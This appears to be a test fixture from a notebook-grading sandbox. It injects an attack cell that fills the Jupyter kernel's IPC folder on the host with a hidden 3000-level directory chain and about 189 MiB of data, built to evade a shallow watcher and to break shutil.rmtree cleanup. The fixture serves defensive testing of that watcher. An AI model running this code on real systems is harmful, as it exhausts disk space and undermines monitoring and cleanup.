"""Fills the kernel's IPC folder on the host where a shallow watcher cannot see it: one hidden folder
holding a chain of 3000 folders (deeper than Python's recursion limit, so shutil.rmtree fails on
it) with 3 x 63 MiB at the bottom. Graded as root the folder is closed to the kernel once its
sockets exist; elsewhere the whole-tree watcher stops the kernel."""
EXPECT_TOTAL = 0
BASE = "release"
ATTACK = r'''
import json, os
try:
    from ipykernel.connect import get_connection_file
    _ipc = os.path.dirname(json.load(open(get_connection_file()))["ip"])
    _fd = os.open(_ipc, os.O_RDONLY)
    os.mkdir(".cache", dir_fd=_fd)
    for _name in [".cache"] + ["d"] * 3000:
        if _name == "d":
            os.mkdir("d", dir_fd=_fd)
        _nxt = os.open(_name, os.O_RDONLY, dir_fd=_fd)
        os.close(_fd)
        _fd = _nxt
    for _i in range(3):
        _f = os.open(f"blob{_i}", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=_fd)
        for _ in range(63):
            os.write(_f, b"0" * 2**20)
        os.close(_f)
    print("filled the IPC folder")
except Exception as _e:
    print("could not fill the IPC folder:", type(_e).__name__, _e)
'''
def mutate(nb):
    import nbformat
    nb.cells.insert(2, nbformat.v4.new_code_cell(ATTACK))
